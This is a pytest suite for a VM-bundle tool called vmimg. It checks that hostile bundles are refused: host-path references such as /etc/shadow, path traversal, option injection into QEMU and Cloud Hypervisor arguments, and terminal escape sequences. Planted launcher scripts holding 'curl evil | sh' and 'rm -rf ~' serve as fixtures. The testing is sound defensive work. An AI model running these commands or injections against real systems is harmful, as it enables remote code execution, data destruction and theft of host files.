"""Hostile bundles: whatever a bundle's vm.json or files say, vmimg refuses before anything
boots, opens no host file the bundle names, and replaces no directory that is not a bundle.

The bundles here are made by hand (a valid one, then one change each), so no kernel build
is needed; one test builds a real bundle through the CLI with Debian's kernel.
"""

from __future__ import annotations

import glob
import hashlib
import json
import os
import re
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.hostile.cli import run_vmimg
from tests.hostile.shapes import keys_of, paths, swapped, values
from vmimg.boot.launch import cloud_hypervisor_command, qemu_command
from vmimg.boot.launchers import write_launchers
from vmimg.boot.verify import VerifyReport, junit_xml
from vmimg.bundle.build import check_destination, install_bundle_dir
from vmimg.bundle.format import load_bundle, parse_vm_json, read_vm_json
from vmimg.errors import BundleError, UsageError
from vmimg.safetext import escape_line

EXIT_BUNDLE = 13
EXIT_USAGE = 2
SECRET = b"host secret: do not boot me\n"


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def make_bundle(path: Path, fs: str = "erofs", arch: str = "x86_64") -> dict[str, Any]:
    """A bundle in the format, with stand-in bytes for its kernel and root."""
    path.mkdir(parents=True)
    rootfs = "rootfs.erofs" if fs == "erofs" else "rootfs.ext4"
    contents = {"kernel": b"K" * 4096, rootfs: b"R" * 8192, "manifest": b"M\n"}
    for name, data in contents.items():
        (path / name).write_bytes(data)
    files = {n: {"sha256": _sha(d), "size": len(d)} for n, d in contents.items()}
    vm = {
        "format": 1,
        "vmimg": "test",
        "arch": arch,
        "platform": "linux/amd64" if arch == "x86_64" else "linux/arm64",
        "source": {"reference": "test", "digest": "sha256:" + "0" * 64, "config_digest": ""},
        "rootfs": {"file": rootfs, "type": fs, "read_only": fs == "erofs", "options": {}},
        "kernel": {"file": "kernel", "version": "6.1", "key": "k", "user_supplied": False},
        "init": {"type": "agent", "sha256": "a" * 64},
        "workload": {"argv": ["/bin/true"], "env": [], "cwd": "/", "uid": 0, "gid": 0},
        "cmdline": "console=ttyS0 quiet panic=-1 root=/dev/vda ro rootfstype=erofs",
        "vcpus": 1,
        "memory_mib": 256,
        "manifest": {"file": "manifest", "sha256": files["manifest"]["sha256"]},
        "files": files,
    }
    write_vm(path, vm)
    return vm


def write_vm(path: Path, vm: dict[str, Any]) -> None:
    (path / "vm.json").write_text(json.dumps(vm, indent=2))


def test_a_bundle_made_by_hand_loads(tmp_path: Path) -> None:
    make_bundle(tmp_path / "b")
    bundle = load_bundle(str(tmp_path / "b"))
    assert bundle.rootfs_path == str(tmp_path / "b" / "rootfs.erofs")


# Each: a change to vm.json, and what the error must name.
VM_ATTACKS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "rootfs at an absolute host path": (
        lambda vm: vm["rootfs"].update(file="/etc/shadow"),
        "rootfs.file must be one of",
    ),
    "rootfs climbing out": (
        lambda vm: vm["rootfs"].update(file="../../secret.img"),
        "rootfs.file must be one of",
    ),
    "kernel at a host path": (
        lambda vm: vm["kernel"].update(file="/root/.ssh/id_rsa"),
        "kernel.file must be one of",
    ),
    "a file list naming a host path": (
        lambda vm: vm["files"].update({"/etc/passwd": {"sha256": "0" * 64, "size": 1}}),
        "is not a file a bundle may hold",
    ),
    "a role file not listed": (
        lambda vm: vm["files"].pop("kernel"),
        "kernel.file names kernel, which files does not list",
    ),
    "vcpus as a string": (lambda vm: vm.update(vcpus="2"), "vcpus must be an integer"),
    "an entrypoint that is not argv's start": (
        lambda vm: vm["workload"].update(entrypoint=["/bin/evil"]),
        "workload.entrypoint must be the first items of argv",
    ),
    "an agent protocol out of range": (
        lambda vm: vm["init"].update(protocol=0),
        "init.protocol must be between",
    ),
    "memory as a boolean": (lambda vm: vm.update(memory_mib=True), "memory_mib must be"),
    "absurd memory": (lambda vm: vm.update(memory_mib=1 << 40), "memory_mib must be between"),
    "a command line with a newline": (
        lambda vm: vm.update(cmdline="console=ttyS0\ninit=/bin/sh"),
        "cmdline holds control characters",
    ),
    "an endless command line": (lambda vm: vm.update(cmdline="x" * 3000), "cmdline is longer"),
    "a size of the wrong type": (
        lambda vm: vm["files"]["kernel"].update(size="4096"),
        "files.kernel.size must be an integer",
    ),
    "a sha256 that is no sha256": (
        lambda vm: vm["files"]["kernel"].update(sha256="../../x"),
        "files.kernel.sha256 must be 64",
    ),
    "an unknown format version": (lambda vm: vm.update(format=2), "bundle format 2"),
    "an unknown arch": (lambda vm: vm.update(arch="riscv64"), "arch must be one of"),
    "rootfs options of the wrong type": (
        lambda vm: vm["rootfs"].update(options=[1]),
        "rootfs.options must be an object",
    ),
    "workload argv with a number": (
        lambda vm: vm["workload"].update(argv=["/bin/sh", 5]),
        "workload.argv must be a list of strings",
    ),
    "uid out of range": (
        lambda vm: vm["workload"].update(uid=1 << 40),
        "workload.uid must be between",
    ),
    "vm.json not an object": (lambda vm: vm.clear(), "bundle format None"),
}


@pytest.mark.parametrize("attack", sorted(VM_ATTACKS))
def test_hostile_vm_json_is_refused(tmp_path: Path, attack: str) -> None:
    change, message = VM_ATTACKS[attack]
    vm = make_bundle(tmp_path / "b")
    change(vm)
    write_vm(tmp_path / "b", vm)
    with pytest.raises(BundleError, match=re.escape(message)):
        load_bundle(str(tmp_path / "b"))


@settings(max_examples=200, deadline=None)
@given(data=st.data())
def test_vm_json_of_any_shape_is_loaded_or_refused_in_one_line(data: st.DataObject) -> None:
    """vm.json with any one value swapped for a value of any type: loading the bundle and
    making its launch commands work, or fail with a BundleError, never a Python error."""
    with tempfile.TemporaryDirectory() as tmp:
        vm = make_bundle(Path(tmp) / "b")
        where = data.draw(st.sampled_from(paths(vm)))
        write_vm(Path(tmp) / "b", swapped(vm, where, data.draw(values(keys_of(vm)))))
        try:
            bundle = load_bundle(str(Path(tmp) / "b"))
            qemu_command(bundle.vm, bundle.dir)
            cloud_hypervisor_command(bundle.vm, bundle.dir)
        except BundleError as e:
            assert "\n" not in str(e), str(e)


def test_vm_json_that_is_not_json_or_too_large(tmp_path: Path) -> None:
    make_bundle(tmp_path / "b")
    (tmp_path / "b" / "vm.json").write_text("[" * 100_000)
    with pytest.raises(BundleError, match="not valid JSON"):
        load_bundle(str(tmp_path / "b"))
    (tmp_path / "b" / "vm.json").write_bytes(b" " * (2 << 20))
    with pytest.raises(BundleError, match="larger than"):
        load_bundle(str(tmp_path / "b"))


def test_vm_json_as_a_symlink_or_fifo_is_refused(tmp_path: Path) -> None:
    make_bundle(tmp_path / "b")
    (tmp_path / "real.json").write_bytes((tmp_path / "b" / "vm.json").read_bytes())
    (tmp_path / "b" / "vm.json").unlink()
    (tmp_path / "b" / "vm.json").symlink_to(tmp_path / "real.json")
    with pytest.raises(BundleError):
        load_bundle(str(tmp_path / "b"))
    (tmp_path / "b" / "vm.json").unlink()
    os.mkfifo(tmp_path / "b" / "vm.json")
    with pytest.raises(BundleError, match="not a regular file"):
        load_bundle(str(tmp_path / "b"))  # and does not hang on the fifo


def test_a_listed_file_that_is_a_symlink_to_a_host_file_is_refused(tmp_path: Path) -> None:
    """The hash would match (the attacker knows the host file's bytes): the link is what
    is refused, so QEMU is never pointed at the host file."""
    secret = tmp_path / "secret.img"
    secret.write_bytes(SECRET)
    vm = make_bundle(tmp_path / "b")
    (tmp_path / "b" / "rootfs.erofs").unlink()
    (tmp_path / "b" / "rootfs.erofs").symlink_to(secret)
    vm["files"]["rootfs.erofs"] = {"sha256": _sha(SECRET), "size": len(SECRET)}
    write_vm(tmp_path / "b", vm)
    with pytest.raises(BundleError, match=r"rootfs\.erofs is not a regular file"):
        load_bundle(str(tmp_path / "b"))


@pytest.mark.parametrize("damage", ["size", "bytes", "missing", "fifo"])
def test_files_that_do_not_match_vm_json_are_refused(tmp_path: Path, damage: str) -> None:
    make_bundle(tmp_path / "b")
    kernel = tmp_path / "b" / "kernel"
    if damage == "size":
        kernel.write_bytes(b"K" * 4097)
    elif damage == "bytes":
        kernel.write_bytes(b"k" * 4096)
    elif damage == "missing":
        kernel.unlink()
    else:
        kernel.unlink()
        os.mkfifo(kernel)
    with pytest.raises(BundleError, match="kernel"):
        load_bundle(str(tmp_path / "b"))


def test_verify_refuses_a_hostile_bundle_before_booting(tmp_path: Path) -> None:
    """Through the CLI, with no QEMU on PATH: the refusal comes first, with exit 13."""
    vm = make_bundle(tmp_path / "b")
    vm["rootfs"]["file"] = "/etc/shadow"
    write_vm(tmp_path / "b", vm)
    r = run_vmimg(tmp_path / "w", "verify", "-q", str(tmp_path / "b"), env={"PATH": "/nonexistent"})
    assert r.returncode == EXIT_BUNDLE, r.stderr
    assert "rootfs.file must be one of" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1
    r = run_vmimg(tmp_path / "w", "run", str(tmp_path / "b"), env={"PATH": "/nonexistent"})
    assert r.returncode == EXIT_BUNDLE, r.stderr


def test_option_strings_cannot_gain_options(tmp_path: Path) -> None:
    """A bundle directory with commas in its path: QEMU's -drive gets the path with commas
    doubled, Cloud Hypervisor's --disk quoted, so it cannot add `,file=/etc/shadow`."""
    evil = tmp_path / "x,file=,readonly=off,if=virtio"
    make_bundle(evil)
    bundle = load_bundle(str(evil))
    argv = qemu_command(bundle.vm, bundle.dir)
    drive = argv[argv.index("-drive") + 1]
    assert "x,,file=,,readonly=off,,if=virtio/rootfs.erofs,format=raw" in drive
    ch = cloud_hypervisor_command(bundle.vm, bundle.dir)
    disk = ch[ch.index("--disk") + 1]
    assert disk == f'path="{evil}/rootfs.erofs",readonly=on'
    quoted = tmp_path / 'q",path=/etc/shadow,"'
    make_bundle(quoted)
    bundle = load_bundle(str(quoted))
    ch = cloud_hypervisor_command(bundle.vm, bundle.dir)
    assert ch[ch.index("--disk") + 1] == (
        f'path="{tmp_path}/q"",path=/etc/shadow,""/rootfs.erofs",readonly=on'
    )


def test_launchers_are_written_from_vm_json_not_kept(tmp_path: Path) -> None:
    make_bundle(tmp_path / "b")
    launch = tmp_path / "b" / "launch"
    launch.mkdir()
    (launch / "qemu.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (launch / "extra.sh").write_text("#!/bin/sh\nrm -rf ~\n")
    write_launchers(str(tmp_path / "b"), read_vm_json(str(tmp_path / "b")))
    assert sorted(p.name for p in launch.iterdir()) == [
        "cloud-hypervisor.sh",
        "firecracker.json",
        "qemu.sh",
    ]
    assert "evil" not in (launch / "qemu.sh").read_text()


# -- outputs ---------------------------------------------------------------------------


def test_output_replaces_only_a_bundle(tmp_path: Path) -> None:
    """A directory that merely holds a file named vm.json is not a bundle: refused, kept."""
    dest = tmp_path / "home"
    dest.mkdir()
    (dest / "vm.json").write_text("{}")
    (dest / "thesis.tex").write_text("years of work")
    with pytest.raises(UsageError, match="holds more than a vmimg bundle"):
        check_destination(str(dest))
    # A real bundle with one extra file is refused too.
    make_bundle(tmp_path / "bundle")
    (tmp_path / "bundle" / "notes.txt").write_text("mine")
    with pytest.raises(UsageError, match="holds more than a vmimg bundle"):
        check_destination(str(tmp_path / "bundle"))
    (tmp_path / "bundle" / "notes.txt").unlink()
    check_destination(str(tmp_path / "bundle"))  # a bundle alone may be replaced
    with pytest.raises(UsageError, match="is not a directory"):
        (tmp_path / "file").write_text("x")
        check_destination(str(tmp_path / "file"))


def test_a_symlink_output_is_refused_without_leftovers(tmp_path: Path) -> None:
    make_bundle(tmp_path / "real")
    (tmp_path / "link").symlink_to(tmp_path / "real")
    work = tmp_path / "work"
    make_bundle(work)
    with pytest.raises(UsageError, match="is a symlink"):
        install_bundle_dir(str(work), str(tmp_path / "link"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link", "real", "work"]
    assert not glob.glob(str(tmp_path / "*.old-*")) and not glob.glob(str(tmp_path / ".*old*"))


def test_replacing_a_bundle_leaves_no_old_copy(tmp_path: Path) -> None:
    make_bundle(tmp_path / "dest")
    make_bundle(tmp_path / "work", fs="ext4")
    install_bundle_dir(str(tmp_path / "work"), str(tmp_path / "dest"))
    assert read_vm_json(str(tmp_path / "dest")).rootfs.type == "ext4"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dest"]


def test_cli_build_refuses_a_directory_that_is_not_a_bundle(tmp_path: Path) -> None:
    dest = tmp_path / "w" / "cwd" / "out"
    dest.mkdir(parents=True)
    (dest / "vm.json").write_text("{}")
    (dest / "keep.txt").write_text("keep")
    r = run_vmimg(tmp_path / "w", "build", "oci:/nonexistent:x", "-o", "out")
    assert r.returncode == EXIT_USAGE, r.stderr
    assert "holds more than a vmimg bundle" in r.stderr
    assert (dest / "keep.txt").read_text() == "keep"


# -- reports -----------------------------------------------------------------------------

HOSTILE_CONSOLE = "ok \x1b]0;pwned\x07 \x1b[2J\x00 \x08\x7f \x9b31m done \udcff"


def test_guest_console_is_escaped_in_reports() -> None:
    line = escape_line(HOSTILE_CONSOLE)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in line)
    assert "\\x1b]0;pwned\\x07" in line and "\\xff" in line
    report = VerifyReport(
        bundle="b", passed=False, stage="workload", accel="tcg", accel_reason="",
        message=escape_line("guest error in exec: \x1b[31m"), console_tail=[line],
    )  # fmt: skip
    xml = junit_xml([report])
    root = ET.fromstring(xml)  # valid XML: it parses
    failure = root.find("./testsuite/testcase/failure")
    assert failure is not None and "pwned" in (failure.text or "")
    assert "\x1b" not in xml.decode()


def test_parse_vm_json_names_the_file() -> None:
    with pytest.raises(BundleError, match=r"^somewhere/vm\.json: rootfs must be an object"):
        parse_vm_json(b'{"format": 1}', "somewhere/vm.json")
